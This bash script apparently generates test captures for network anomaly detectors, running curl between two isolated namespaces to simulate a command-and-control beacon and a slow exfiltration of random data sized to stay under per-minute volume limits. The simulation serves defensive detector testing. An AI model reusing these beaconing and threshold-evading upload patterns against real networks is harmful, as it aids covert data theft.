#!/usr/bin/env bash
# Makes the captures the anomaly detectors are measured on, with real tools between two
# network namespaces (nsmano-a, the infected host 10.79.0.1, and nsmano-v, the outside server
# 10.79.0.2) joined by a veth pair; tcpdump records on the server's side. The namespaces are
# always deleted.
#
#   beacon.pcap        curl fetching /beacon every 0.5 s, 12 times (command-and-control
#                      heartbeat); timestamps stretched x60 afterwards: every 30 s over 5.5 min
#   exfiltration.pcap  curl POSTing 1 MiB 12 times, 0.5 s apart (12 MiB to one address);
#                      stretched x120: over about 20 minutes, each upload under every
#                      per-minute bar. Recorded with a 96-byte snaplen (headers only; the
#                      original lengths are kept, so the volumes are real).
#
# Stretching time keeps the packets real and the test short: a beacon really every 30 s would
# take minutes to record. Needs root, curl, python3, tcpdump.
# Usage: tests/tools/make_anomaly_captures.sh [OUT_DIR]   (default: tests/fixtures/anomaly)
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
OUT=${1:-$HERE/../fixtures/anomaly}
A=nsmano-a
V=nsmano-v
A4=10.79.0.1
V4=10.79.0.2
WORK=$(mktemp -d)
PIDS=()

cleanup() {
    for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
    for ns in "$A" "$V"; do
        for p in $(ip netns pids "$ns" 2>/dev/null); do kill "$p" 2>/dev/null || true; done
    done
    wait 2>/dev/null || true
    ip netns del "$A" 2>/dev/null || true
    ip netns del "$V" 2>/dev/null || true
    rm -rf "$WORK"
}
trap cleanup EXIT

in_a() { ip netns exec "$A" "$@"; }
in_v() { ip netns exec "$V" "$@"; }

ip netns del "$A" 2>/dev/null || true
ip netns del "$V" 2>/dev/null || true
ip netns add "$A"
ip netns add "$V"
ip link add veth-a netns "$A" type veth peer name veth-v netns "$V"
in_a ip addr add "$A4/24" dev veth-a
in_v ip addr add "$V4/24" dev veth-v
for ns in "$A" "$V"; do ip -n "$ns" link set lo up; done
in_a ip link set veth-a up
in_v ip link set veth-v up
sleep 1
in_a ping -c 1 -W 2 "$V4" >/dev/null

cat >"$WORK/server.py" <<'PY'
# Answers GET with a few bytes and swallows POST bodies: the server side of both captures.
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"sleep 30\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def do_POST(self):
        n = int(self.headers.get("Content-Length", "0"))
        while n > 0:
            n -= len(self.rfile.read(min(n, 65536)))
        self.send_response(204)
        self.end_headers()
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer((sys.argv[1], 8443), H).serve_forever()
PY
in_v python3 "$WORK/server.py" "$V4" &
PIDS+=("$!")
sleep 1

stretch() { # stretch IN OUT FACTOR: multiply every packet's offset from the first by FACTOR
    python3 - "$1" "$2" "$3" <<'PY'
import struct, sys
src, dst, k = sys.argv[1], sys.argv[2], float(sys.argv[3])
data = open(src, "rb").read()
magic = data[:4]
endian = "<" if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
nano = magic in (b"\x4d\x3c\xb2\xa1", b"\xa1\xb2\x3c\x4d")
unit = 1e9 if nano else 1e6
out = bytearray(data[:24])
i, t0 = 24, None
while i + 16 <= len(data):
    sec, frac, incl, orig = struct.unpack(endian + "IIII", data[i:i + 16])
    t = sec + frac / unit
    t0 = t if t0 is None else t0
    t = t0 + (t - t0) * k
    s = int(t)
    out += struct.pack(endian + "IIII", s, min(int(round((t - s) * unit)), int(unit) - 1), incl, orig)
    out += data[i + 16:i + 16 + incl]
    i += 16 + incl
open(dst, "wb").write(out)
PY
}

record() { # record NAME SNAPLEN FACTOR CMD...
    local name=$1 snap=$2 factor=$3
    shift 3
    in_v tcpdump -Z root -U -n -i veth-v -s "$snap" -w "$WORK/$name.raw.pcap" "tcp port 8443" 2>/dev/null &
    local t=$!
    sleep 1
    "$@"
    sleep 1
    kill "$t"; wait "$t" 2>/dev/null || true
    stretch "$WORK/$name.raw.pcap" "$OUT/$name.pcap" "$factor"
    echo "$name: $(tcpdump -r "$OUT/$name.pcap" -n 2>/dev/null | wc -l) packets" >&2
}

mkdir -p "$OUT"
record beacon 256 60 in_a bash -c \
    "for i in \$(seq 12); do curl -s -o /dev/null http://$V4:8443/beacon; sleep 0.5; done"
head -c 1048576 /dev/urandom >"$WORK/chunk"
record exfiltration 96 120 in_a bash -c \
    "for i in \$(seq 12); do curl -s -o /dev/null --data-binary @$WORK/chunk http://$V4:8443/upload; sleep 0.5; done"
